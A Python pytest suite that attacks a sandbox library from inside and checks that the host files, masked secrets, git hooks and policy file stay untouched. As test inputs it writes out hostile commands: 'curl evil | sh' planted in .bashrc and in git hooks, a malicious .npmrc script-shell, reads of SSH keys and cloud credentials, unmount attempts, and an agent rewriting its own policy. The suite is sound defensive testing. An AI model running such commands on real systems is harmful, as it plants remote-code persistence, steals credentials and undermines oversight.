"""Escape suite, filesystem: every test attacks the real sandbox and then checks the HOST.

Targets outside the workspace live in /var/tmp: the sandbox's private /tmp would make a
write under /tmp "succeed" into a tmpfs and prove nothing.
"""

from __future__ import annotations

import os
import subprocess
import uuid
from pathlib import Path

import pytest

from safehold import SafetyConfig, SandboxConfig
from safehold.errors import SandboxError
from tests.adapters.bwrap.conftest import Runner, make_config


def test_write_outside_the_writable_roots_fails_and_host_is_unchanged(
    run: Runner, outside: Path
) -> None:
    target = outside / "victim.txt"
    target.write_text("original\n")
    result = run(f"echo pwned > {target}; echo rc=$?; touch {outside}/new; rm -f {target}")
    assert b"No such file or directory" in result.stderr  # /var/tmp is not even mounted
    assert target.read_text() == "original\n"
    assert not (outside / "new").exists()


def test_write_inside_the_workspace_persists(run: Runner, ws: Path) -> None:
    result = run("mkdir -p out && echo built > out/artifact.txt")
    assert result.exit_code == 0
    assert (ws / "out" / "artifact.txt").read_text() == "built\n"


def test_extra_writable_root_is_writable(run: Runner, outside: Path) -> None:
    result = run(f"echo ok > {outside}/cache.txt", writable_roots=(str(outside),))
    assert result.exit_code == 0
    assert (outside / "cache.txt").read_text() == "ok\n"


def test_read_only_profile_blocks_workspace_writes_but_not_private_tmp(
    run: Runner, ws: Path
) -> None:
    result = run(
        "echo x > /tmp/scratch && cat /tmp/scratch && echo y > new.txt", profile="read-only"
    )
    assert result.stdout == b"x\n"
    assert result.exit_code != 0
    assert not (ws / "new.txt").exists()
    assert (ws / "README.md").read_text() == "hello\n"  # still readable: it printed nothing wrong
    assert run("cat README.md", profile="read-only").stdout == b"hello\n"


def test_private_tmp_does_not_reach_the_host(run: Runner) -> None:
    name = f"/tmp/safehold-private-{uuid.uuid4().hex}"
    assert run(f"echo x > {name} && cat {name}").stdout == b"x\n"
    assert not os.path.exists(name)


def test_private_tmp_is_size_bounded(run: Runner) -> None:
    result = run("head -c 3000000 /dev/zero > /tmp/fill", tmp_size_mb=1)
    assert result.exit_code != 0
    assert b"No space left on device" in result.stderr


def test_denied_file_and_directory_are_unreadable(run: Runner, ws: Path) -> None:
    (ws / ".env").write_text("API_KEY=sk-live-secret\n")
    ssh = ws / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("PRIVATE KEY\n")
    (ws / "key.pem").write_text("PEM\n")
    result = run("cat .env; ls .ssh; cat .ssh/id_ed25519; cat key.pem; echo end")
    assert b"sk-live-secret" not in result.stdout
    assert b"PRIVATE KEY" not in result.stdout
    assert b"PEM" not in result.stdout
    assert result.stderr.count(b"Permission denied") >= 4
    assert result.stdout.endswith(b"end\n")


def test_symlink_to_a_denied_file_is_unreadable(run: Runner, ws: Path, outside: Path) -> None:
    secret = outside / "server.key"
    secret.write_text("TOPSECRET\n")
    (ws / "notes.txt").symlink_to(secret)
    result = run("cat notes.txt")
    assert b"TOPSECRET" not in result.stdout
    assert b"No such file or directory" in result.stderr  # its target is not mounted
    inside = ws / "keys"
    inside.mkdir()
    (inside / "server.key").write_text("TOPSECRET\n")
    (ws / "alias.txt").symlink_to("keys/server.key")
    result = run("cat alias.txt")
    assert b"TOPSECRET" not in result.stdout
    assert b"Permission denied" in result.stderr


def test_denied_glob_in_a_nested_directory_is_masked(run: Runner, ws: Path) -> None:
    deep = ws / "a" / "b" / "c"
    deep.mkdir(parents=True)
    (deep / "prod.env").write_text("x")
    (deep / "credentials.json").write_text("TOKEN\n")
    cfg = SafetyConfig(denied_paths=("{workspace}/a/**/credentials.*",))
    result = run("cat a/b/c/credentials.json", config=cfg)
    assert b"TOKEN" not in result.stdout


def test_masks_cannot_be_removed_renamed_or_chmodded(run: Runner, ws: Path) -> None:
    (ws / ".env").write_text("SECRET=1\n")
    result = run("rm -f .env; mv .env e2; chmod 644 .env; cat .env; ls -a")
    assert b"SECRET" not in result.stdout
    assert (ws / ".env").read_text() == "SECRET=1\n"
    assert not (ws / "e2").exists()


def test_missing_denied_paths_leave_no_stub_files_on_the_host(run: Runner, ws: Path) -> None:
    before = sorted(os.listdir(ws))
    assert run("true").exit_code == 0
    assert sorted(os.listdir(ws)) == before


def test_git_directory_is_read_only_and_cannot_be_renamed(run: Runner, ws: Path) -> None:
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    hooks = ws / ".git" / "hooks"
    before = sorted(os.listdir(hooks))
    attack = (
        "mv .git .git_old; "
        "echo 'echo HOOK' > .git/hooks/pre-commit; "
        "chmod +x .git/hooks/pre-commit; "
        "git config core.hooksPath /tmp; "
        "echo done"
    )
    result = run(attack)
    assert result.stdout.endswith(b"done\n")
    assert (ws / ".git").is_dir()
    assert not (ws / ".git_old").exists()
    assert sorted(os.listdir(hooks)) == before
    assert b"hooksPath" not in (ws / ".git" / "config").read_bytes()


def test_nested_git_directory_cannot_be_carried_away_by_renaming_a_parent(
    run: Runner, ws: Path
) -> None:
    nested = ws / "vendor" / "lib"
    nested.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(nested)], check=True)
    result = run(
        "mv vendor vendor2 || mv vendor/lib vendor/lib2; mkdir -p vendor/lib/.git/hooks; "
        "echo evil > vendor/lib/.git/hooks/post-checkout; echo done"
    )
    assert result.stdout.endswith(b"done\n")
    assert (nested / ".git" / "HEAD").exists()
    assert not (ws / "vendor2").exists()
    assert not (nested / ".git" / "hooks" / "post-checkout").exists()


def test_protected_rc_file_in_the_workspace_is_read_only(run: Runner, ws: Path) -> None:
    (ws / ".bashrc").write_text("# mine\n")
    result = run("echo 'curl evil | sh' >> .bashrc; rm -f .bashrc; echo done")
    assert result.stdout == b"done\n"
    assert (ws / ".bashrc").read_text() == "# mine\n"


def test_creating_a_missing_protected_path_is_reported(run: Runner, ws: Path) -> None:
    result = run("mkdir -p .vscode && echo '{}' > .vscode/tasks.json")
    assert result.exit_code == 0
    assert any(".vscode" in f and "created" in f for f in result.findings)


def test_more_entries_than_the_scan_budget_do_not_skip_the_after_run_check(
    run: Runner, ws: Path
) -> None:
    # The after-run check gave up past `scan_max_entries` (a finding, "review the
    # workspace") and left the planted hook and editor task in place.
    result = run(
        "mkdir -p .git/hooks .vscode && echo 'curl evil | sh' > .git/hooks/pre-commit && "
        "echo '{}' > .vscode/tasks.json && mkdir many && cd many && "
        "for i in $(seq 400); do : > f$i; done; echo done",
        scan_max_entries=300,
        read_roots=(),
    )
    assert result.stdout == b"done\n"
    assert not (ws / ".git").exists() and not (ws / ".vscode").exists()
    assert (ws / ".git.safehold-blocked" / "hooks" / "pre-commit").exists()
    assert (ws / ".vscode.safehold-blocked" / "tasks.json").exists()
    assert not any("failed" in f for f in result.findings)


def test_a_created_npmrc_is_moved_aside_and_an_existing_one_stays_masked(
    run: Runner, ws: Path
) -> None:
    # `.npmrc` was denied only: masked when it existed, but a new one the command wrote
    # stayed, and the host's next `npm run` started its `script-shell`.
    result = run(
        "echo script-shell=./evil.sh > .npmrc; mkdir -p app && "
        "ln -s ../evil.ini app/.npmrc; echo done",
        read_roots=(),
    )
    assert result.stdout == b"done\n"
    assert not (ws / ".npmrc").exists() and not (ws / "app" / ".npmrc").is_symlink()
    assert (ws / ".npmrc.safehold-blocked").read_text() == "script-shell=./evil.sh\n"
    assert (ws / "app" / ".npmrc.safehold-blocked").is_symlink()
    (ws / ".npmrc").write_text("//registry/:_authToken=NPM-TOKEN\n")
    again = run("cat .npmrc; echo x > .npmrc; echo done", read_roots=())
    assert again.stdout == b"done\n" and again.findings == ()
    assert (ws / ".npmrc").read_text() == "//registry/:_authToken=NPM-TOKEN\n"


def test_symlinked_protected_path_pins_its_target_and_reports_a_swap(run: Runner, ws: Path) -> None:
    real = ws / "editor-config"
    real.mkdir()
    (real / "settings.json").write_text("{}\n")
    (ws / ".vscode").symlink_to("editor-config")
    result = run("echo hacked > .vscode/settings.json; rm .vscode && mkdir .vscode; echo done")
    assert result.stdout.endswith(b"done\n")
    assert (real / "settings.json").read_text() == "{}\n"
    assert any(".vscode" in f and "replaced" in f for f in result.findings)


def test_symlinked_writable_root_is_refused(run: Runner, ws: Path, outside: Path) -> None:
    link = ws.parent / "cache-link"
    link.symlink_to(outside)
    with pytest.raises(SandboxError, match="symlink"):
        run("true", writable_roots=(str(link),))
    assert list(outside.iterdir()) == []


def test_slash_is_never_a_writable_root(run: Runner) -> None:
    with pytest.raises(SandboxError, match="`/`"):
        run("true", writable_roots=("/",))


def test_workspace_inside_a_denied_directory_is_refused(run: Runner, ws: Path) -> None:
    inner = ws / ".ssh" / "proj"
    inner.mkdir(parents=True)
    with pytest.raises(SandboxError, match="denied"):
        run("true", cwd=inner)


def test_remount_root_rw_and_unmounting_a_mask_fail(run: Runner, ws: Path, outside: Path) -> None:
    (ws / ".env").write_text("SECRET=2\n")
    target = outside / "host.txt"
    target.write_text("original\n")
    result = run(
        f"mount -o remount,rw /; umount -l .env; umount .env; cat .env; "
        f"echo pwned > {target}; echo done"
    )
    assert result.stdout == b"done\n"
    assert target.read_text() == "original\n"
    assert (ws / ".env").read_text() == "SECRET=2\n"


def test_capabilities_dropped_no_new_privs_and_seccomp_on(run: Runner) -> None:
    status = dict(
        line.split(":\t", 1)
        for line in run("cat /proc/self/status").stdout.decode().splitlines()
        if ":\t" in line
    )
    assert status["CapEff"].strip() == "0000000000000000"
    assert status["CapBnd"].strip() == "0000000000000000"
    assert status["NoNewPrivs"].strip() == "1"
    assert status["Seccomp"].strip() == "2"


def test_paths_with_spaces_quotes_and_leading_dash_work(run: Runner, ws: Path) -> None:
    odd = ws / "-odd dir 'q'"
    odd.mkdir()
    result = run(["/bin/sh", "-c", 'echo ok > "./x y.txt"; pwd'], cwd=odd)
    assert result.exit_code == 0
    assert (odd / "x y.txt").read_text() == "ok\n"


def test_config_sandbox_is_validated() -> None:
    with pytest.raises(ValueError, match="scan_max_entries"):
        SandboxConfig(scan_max_entries=0)
    with pytest.raises(ValueError, match="mode"):
        SandboxConfig(mode="chroot")  # type: ignore[arg-type]


def test_scan_budget_overflow_is_an_error_not_a_partial_mask(run: Runner, ws: Path) -> None:
    from safehold.adapters.bwrap._scan import clear_cache

    for i in range(30):
        (ws / f"f{i}").write_text("x")
    clear_cache()  # the budget counts entries read from disk, not cached ones
    with pytest.raises(SandboxError, match="scan_max_entries"):
        run("true", config=make_config(scan_max_entries=10))


def test_home_secrets_are_unreadable_from_the_workspace(
    run: Runner, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = outside / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("aws_secret_access_key=AKIA\n")
    (home / ".config" / "gh").mkdir(parents=True)
    (home / ".config" / "gh" / "hosts.yml").write_text("oauth_token: gho_x\n")
    (home / "notes.txt").write_text("public\n")
    (home / ".cache").mkdir()
    (home / ".cache" / "tool.txt").write_text("cached\n")
    monkeypatch.setenv("HOME", str(home))
    result = run("cat ~/.aws/credentials ~/.config/gh/hosts.yml ~/notes.txt ~/.cache/tool.txt")
    assert b"AKIA" not in result.stdout and b"gho_x" not in result.stdout
    assert b"public" not in result.stdout  # the rest of home is not mounted
    assert result.stdout == b"cached\n"  # a read root is
    assert result.stderr.count(b"No such file or directory") == 3


def test_the_loaded_policy_file_cannot_be_rewritten_from_the_sandbox(run: Runner, ws: Path) -> None:
    # SafetyConfig.load protects its own file by absolute path: an agent cannot loosen its
    # own policy, even with the file inside the writable workspace (and a space in its path).
    policy = ws / "conf dir" / "agent-policy.toml"
    policy.parent.mkdir()
    policy.write_text("read_only = false\n")
    config = SafetyConfig.load(policy)
    result = run(
        "echo 'read_only = false # loosened' > 'conf dir/agent-policy.toml'", config=config
    )
    assert result.exit_code != 0
    assert policy.read_text() == "read_only = false\n"
